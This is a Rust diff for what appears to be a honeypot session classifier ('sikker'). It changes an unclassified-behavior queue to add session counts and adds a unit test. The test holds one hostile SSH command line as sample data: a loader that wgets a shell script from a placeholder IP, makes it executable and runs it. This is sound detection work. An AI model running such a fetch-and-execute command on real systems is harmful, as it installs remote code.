@@ -105,23 +105,24 @@ pub struct QueueEntry {
     pub sessions: usize,
 }
 
-/// `sikker catalog unclassified`: of the given per-session primitive sets, those no behavior
-/// of `engine` takes (re-resolved now, so a catalog fix empties the queue), most frequent
-/// first (ties by the set itself), at most `limit`.
+/// `sikker catalog unclassified`: of the given primitive sets, each with how many sessions
+/// showed it, those no behavior of `engine` takes (re-resolved now, so a catalog fix empties
+/// the queue), most frequent first (ties by the set itself), at most `limit`. A set may come
+/// more than once, in any order; its counts add up.
 pub fn unclassified_queue<I, S>(engine: &Engine, sets: I, limit: usize) -> Vec<QueueEntry>
 where
-    I: IntoIterator<Item = Vec<S>>,
+    I: IntoIterator<Item = (Vec<S>, usize)>,
     S: AsRef<str>,
 {
     let mut counts: HashMap<Vec<String>, usize> = HashMap::new();
-    for set in sets {
-        if set.is_empty() {
+    for (set, sessions) in sets {
+        if set.is_empty() || sessions == 0 {
             continue;
         }
         let mut ids: Vec<String> = set.iter().map(|s| s.as_ref().to_owned()).collect();
         ids.sort();
         ids.dedup();
-        *counts.entry(ids).or_default() += 1;
+        *counts.entry(ids).or_default() += sessions;
     }
     let mut queue: Vec<QueueEntry> = counts
         .into_iter()
@@ -146,4 +147,59 @@ pub fn render_queue(queue: &[QueueEntry]) -> String {
         let _ = writeln!(out, "{:>8}  {}", q.sessions, q.primitives.join(" "));
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use sikker_event::{Event, EventData, Protocol};
+
+    #[test]
+    fn the_queue_adds_counts_drops_classified_sets_and_ranks() {
+        let engine = Engine::builtin();
+        let ip = "203.0.113.9".parse().expect("literal");
+        let session = uuid::Uuid::now_v7();
+        let events: Vec<Event> = [
+            EventData::Connect,
+            EventData::Command {
+                line: "cd /tmp; wget http://198.51.100.9/x.sh; chmod 777 x.sh; sh x.sh".into(),
+            },
+        ]
+        .into_iter()
+        .map(|d| Event::new("t", session, Protocol::Ssh, ip, 40000, 22, d))
+        .collect();
+        let classified = engine.classify_uncached(&events);
+        assert!(
+            classified.outcome.behavior().is_some(),
+            "a loader classifies"
+        );
+        let queue = unclassified_queue(
+            &engine,
+            vec![
+                (vec!["zz-unknown-b"], 3),
+                (vec!["zz-unknown-a"], 2),
+                (vec!["zz-unknown-b", "zz-unknown-b"], 4), // the same set, counted again
+                (vec!["zz-unknown-c"], 7),
+                (vec![], 100),
+                (vec!["zz-unknown-d"], 0),
+            ]
+            .into_iter()
+            .map(|(set, n)| (set.into_iter().map(str::to_owned).collect::<Vec<_>>(), n))
+            .chain([(classified.primitives.clone(), 50)]),
+            2,
+        );
+        assert_eq!(
+            queue,
+            vec![
+                QueueEntry {
+                    primitives: vec!["zz-unknown-b".into()],
+                    sessions: 7
+                },
+                QueueEntry {
+                    primitives: vec!["zz-unknown-c".into()],
+                    sessions: 7
+                },
+            ]
+        );
+    }
 }
